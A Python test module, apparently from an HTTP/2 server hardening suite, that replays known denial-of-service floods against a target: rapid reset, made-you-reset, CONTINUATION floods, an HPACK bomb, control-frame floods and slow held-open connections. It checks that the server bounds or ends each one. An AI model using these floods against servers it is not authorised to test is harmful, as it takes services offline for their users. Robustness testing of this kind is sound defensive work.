"""Clients that make work without use. The connection ends, or the work that it makes is bounded.

A flood is sent in pieces of some frames each, up to a number that no honest client needs. Where the peer goes on to take it,
another client has to be served as quickly as ever meanwhile."""

import threading
import time

from . import frames, hpack
from .cases import alive, case, error
from .connection import Connection, Failed, Response, Silent
from .hpack import INDEXING, indexed, literal

ENDS = ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "NO_ERROR", "REFUSED_STREAM", "FRAME_SIZE_ERROR", "COMPRESSION_ERROR", "STREAM_CLOSED")


def others_are_served(c):
    """Another client's request is served as promptly as ever."""
    began = time.monotonic()
    other = Connection(c.target)
    try:
        other.handshake()
        other.request(1)
        other.response(1, 5 * c.target.prompt)
    finally:
        other.close()
    took = time.monotonic() - began
    if took > c.target.prompt:
        raise Failed(f"another client waited for {took:.1f} s")


def flood(c, pieces, must_end=False):
    """Sends pieces until the connection ends, or all of them: what became of it. `must_end`: nothing else bounds it."""
    sent = 0
    for piece in pieces:
        intact = c.send(piece)
        sent += 1
        for frame in c.drain():
            if frame.kind == frames.GOAWAY:
                return str(frame)
        if c.closed or not intact:
            return end(c)
    if must_end:
        raise Failed(f"not ended; last: {c.last()}")
    others_are_served(c)
    for frame in c.drain():
        if frame.kind == frames.GOAWAY:
            return str(frame)
    return "closed" if c.closed else "borne"


def end(c):
    """How a connection that is ending ends."""
    try:
        while (frame := c.read()) is not None:
            if frame.kind == frames.GOAWAY:
                return str(frame)
    except Silent:
        pass
    return "closed"


def repeat(frame, times, at_once=50):
    """So many times a frame, in pieces."""
    return (frame * at_once for _ in range(times // at_once))


def streams(count, make, at_once=25):
    """What `make` gives for each of so many streams, in pieces."""
    for first in range(0, count, at_once):
        yield b"".join(make(2 * number + 1) for number in range(first, min(first + at_once, count)))


@case("abuse/rapid-reset", "CVE-2023-44487", "streams are opened and reset at once")
def rapid_reset(c):
    block = c.block_of()
    return flood(c, streams(3000, lambda id: frames.headers(id, block, True) + frames.reset(id)))


def made_to_reset(wrong):
    def run(c):
        block = c.block_of("POST")
        return flood(c, streams(3000, lambda id: frames.headers(id, block) + wrong(id)))

    return run


MADE = "CVE-2025-8671"
case("abuse/made-you-reset/1", MADE, "the server has to reset streams: WINDOW_UPDATE of 0")(made_to_reset(lambda id: frames.window_update(id, 0)))
case("abuse/made-you-reset/2", MADE, "the server has to reset streams: a window too large")(made_to_reset(lambda id: frames.window_update(id, frames.MOST)))
case("abuse/made-you-reset/3", MADE, "the server has to reset streams: PRIORITY too short")(made_to_reset(lambda id: frames.frame(frames.PRIORITY, 0, id, b"1234")))
case("abuse/made-you-reset/4", MADE, "the server has to reset streams: malformed trailers")(
    made_to_reset(lambda id: frames.headers(id, hpack.encode([(b":path", b"/")]), True))
)


@case("abuse/malformed", MADE, "requests that are malformed")
def many_malformed(c):
    block = c.block_of(more=[(b"X", b"")])
    return flood(c, streams(3000, lambda id: frames.headers(id, block, True)))


@case("abuse/continuation/1", "CVE-2024-27316", "CONTINUATION without end")
def continuation_flood(c):
    c.send(frames.headers(1, c.block_of(), True, False))
    piece = frames.continuation(1, literal(b"x-flood", b"a" * 4000), False)
    return flood(c, repeat(piece, 3000, 10), must_end=True)


@case("abuse/continuation/2", "CVE-2024-27316", "empty CONTINUATION without end")
def continuation_empty(c):
    c.send(frames.headers(1, c.block_of(), True, False))
    return flood(c, repeat(frames.continuation(1, b"", False), 20_000, 200), must_end=True)


def refused_head(c, *sent):
    """A head that is too large: refused on its stream, or the connection ends."""
    c.send(*sent)
    return error(c, 1, ENDS, (400, 413, 431, 494))


@case("abuse/hpack-bomb", "CVE-2016-6581", "one byte for 4,000 of a field, many times")
def hpack_bomb(c):
    c.request(1)
    c.response(1)
    bomb = indexed(62) * 15_000
    c.send(frames.headers(3, literal(b"x-bomb", b"a" * 3900, INDEXING) + c.block_of(), True))
    c.send(frames.headers(5, c.block_of() + bomb, True))
    observed = error(c, 5, ENDS, (400, 413, 431, 494))
    others_are_served(c)
    return observed


@case("abuse/header-list", "RFC 9113 §10.5.1", "a header list of 300 KiB")
def header_list(c):
    block = c.block_of(more=[(b"x-%d" % number, b"a" * 3000) for number in range(100)])
    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    sent = [frames.headers(1, pieces[0], True, False)]
    sent += [frames.continuation(1, piece, piece is pieces[-1]) for piece in pieces[1:]]
    return refused_head(c, *sent)


@case("abuse/fields", "RFC 9113 §10.5.1", "a head of 5,000 fields")
def many_fields(c):
    pieces = [hpack.encode(c.target.fields())] + [indexed(16) * 5000]
    return refused_head(c, frames.headers(1, pieces[0], True, False), frames.continuation(1, pieces[1]))


@case("abuse/table-thrashing", "RFC 9113 §10.5", "each head fills the dynamic table anew")
def thrashing(c):
    def head(id):
        fields = [literal(b"x-%d" % (id + number), b"a" * 50, INDEXING) for number in range(40)]
        return frames.headers(id, c.block_of() + b"".join(fields), True)

    return flood(c, streams(1000, head, 10))


@case("abuse/settings", "CVE-2019-9515", "SETTINGS")
def settings_flood(c):
    return flood(c, repeat(frames.settings((frames.INITIAL_WINDOW_SIZE, 65_535)), 20_000, 100))


@case("abuse/ping", "CVE-2019-9512", "PING")
def ping_flood(c):
    return flood(c, repeat(frames.ping(bytes(8)), 20_000, 100))


@case("abuse/empty-data", "CVE-2019-9518", "DATA without content")
def empty_data(c):
    c.request(1, "POST", end=False)
    return flood(c, repeat(frames.data(1, b""), 20_000, 100))


@case("abuse/padding", "RFC 9113 §10.7", "DATA of nothing but padding")
def padding(c):
    c.request(1, "POST", end=False)
    return flood(c, repeat(frames.data(1, b"", pad=1), 20_000, 100))


@case("abuse/window-updates", "RFC 9113 §10.5", "WINDOW_UPDATE")
def window_updates(c):
    return flood(c, repeat(frames.window_update(0, 1), 50_000, 500))


@case("abuse/priority", "CVE-2019-9513", "PRIORITY")
def priorities(c):
    return flood(c, streams(20_000, lambda id: frames.priority(id, id + 2), 250))


@case("abuse/priority-update", "RFC 9218 §10", "PRIORITY_UPDATE")
def priority_updates(c):
    return flood(c, streams(20_000, lambda id: frames.frame(frames.PRIORITY_UPDATE, 0, 0, id.to_bytes(4, "big") + b"u=1"), 250))


@case("abuse/unknown", "RFC 9113 §10.5", "frames of unknown types")
def unknown(c):
    return flood(c, repeat(frames.frame(0xBB, 0, 0, b""), 20_000, 200))


@case("abuse/closed-stream", "RFC 9113 §10.5", "DATA on a closed stream")
def closed_stream(c):
    c.request(1)
    c.response(1)
    return flood(c, repeat(frames.data(1, b"a"), 20_000, 100))


@case("abuse/beyond-limit", "RFC 9113 §5.1.2", "streams far beyond the limit")
def beyond_limit(c):
    c.send(frames.settings((frames.INITIAL_WINDOW_SIZE, 0)))
    block = c.block_of()
    return flood(c, streams(4000, lambda id: frames.headers(id, block, True)))


@case("abuse/window-overflow", "RFC 9113 §6.9.1", "windows grow bit by bit beyond 2^31-1")
def window_overflow(c):
    c.request(1, "POST", end=False)
    step = frames.window_update(0, 1 << 27)
    c.send(*[step] * 16)
    return error(c, None, ("FLOW_CONTROL_ERROR",))


@case("abuse/beyond-window", "RFC 9113 §6.9.1", "DATA beyond the windows")
def beyond_window(c):
    c.request(1, "POST", end=False)
    threading.Thread(target=c.send, args=[frames.data(1, bytes(frames.DEFAULT_FRAME))] * 256, daemon=True).start()
    granted = 0
    try:
        while (frame := c.read()) is not None:
            if frame.kind == frames.WINDOW_UPDATE:
                granted += 1
            if frame.kind in (frames.GOAWAY, frames.RST_STREAM) and frame.code() == "FLOW_CONTROL_ERROR":
                return str(frame)
    except Silent:
        if granted:
            return "all of it was granted meanwhile"
        raise
    return "closed"


@case("abuse/stream-ids", "RFC 9113 §5.1.1", "the last stream id is used, and one more is asked for")
def stream_ids(c):
    c.request(frames.MOST)
    c.response(frames.MOST)
    c.request(1)
    return error(c, None, ("PROTOCOL_ERROR", "STREAM_CLOSED", "NO_ERROR"))


# What is held open ----------------------------------------------------------------------------------


def held(c, *kept, ends=True):
    """Waits until the peer ends what is held, stream or connection. `kept` is sent each second."""
    began = time.monotonic()
    while time.monotonic() - began < c.target.patience:
        try:
            frame = c.read(1.0)
        except Silent:
            c.send(*kept)
            continue
        if frame is None:
            return "closed"
        if frame.kind in (frames.GOAWAY, frames.RST_STREAM):
            return str(frame)
        response = c.responses.get(1, Response())
        if response.status >= 400:
            return f"status {response.status}"
    raise Failed(f"held for {c.target.patience:.0f} s")


@case("abuse/slow/preface", "RFC 9113 §10.5", "nothing but half of the preface", raw=True)
def slow_preface(c):
    c.send(frames.PREFACE[:12])
    return held(c)


@case("abuse/slow/settings", "RFC 9113 §6.5.3", "no SETTINGS behind the preface", raw=True)
def no_settings(c):
    c.send(frames.PREFACE)
    return held(c)


@case("abuse/slow/head", "RFC 9113 §10.5", "a header block that does not end")
def slow_head(c):
    c.send(frames.headers(1, c.block_of(), True, False))
    return held(c)


@case("abuse/slow/frame", "RFC 9113 §10.5", "a frame that does not end")
def slow_frame(c):
    c.send(frames.headers(1, c.block_of(), True)[:30])
    return held(c)


@case("abuse/slow/content", "RFC 9113 §10.5", "content that does not come")
def slow_content(c):
    c.request(1, "POST", [(b"content-length", b"10")], end=False)
    return held(c)


@case("abuse/slow/window", "CVE-2019-9517", "a window of 0 that stays so")
def zero_window(c):
    c.send(frames.settings((frames.INITIAL_WINDOW_SIZE, 0)))
    c.request(1)
    return held(c)


@case("abuse/slow/window-with-pings", "CVE-2019-9517", "a window of 0, and PING meanwhile")
def zero_window_alive(c):
    c.send(frames.settings((frames.INITIAL_WINDOW_SIZE, 0)))
    c.request(1)
    return held(c, frames.ping(bytes(8)))


@case("abuse/slow/windows", "CVE-2019-9517", "windows of 0 of fifty streams: they end, and others are served meanwhile")
def zero_windows(c):
    c.send(frames.settings((frames.INITIAL_WINDOW_SIZE, 0)))
    c.send(*(frames.headers(stream, c.block_of(), True) for stream in range(1, 101, 2)))
    others_are_served(c)
    return held(c)


@case("abuse/slow/drip", "CVE-2019-9511", "a window that opens by one byte a second")
def dribble(c):
    c.send(frames.settings((frames.INITIAL_WINDOW_SIZE, 0)))
    c.request(1)
    others_are_served(c)
    c.send(frames.window_update(1, 1))
    return alive(c)


@case("abuse/slow/idle", "RFC 9113 §5.4.1", "a connection without any stream")
def idle(c):
    return held(c)


@case("abuse/slow/used-once", "RFC 9113 §5.4.1", "a connection without a further stream")
def used_once(c):
    c.request(1)
    c.response(1)
    return held(c)
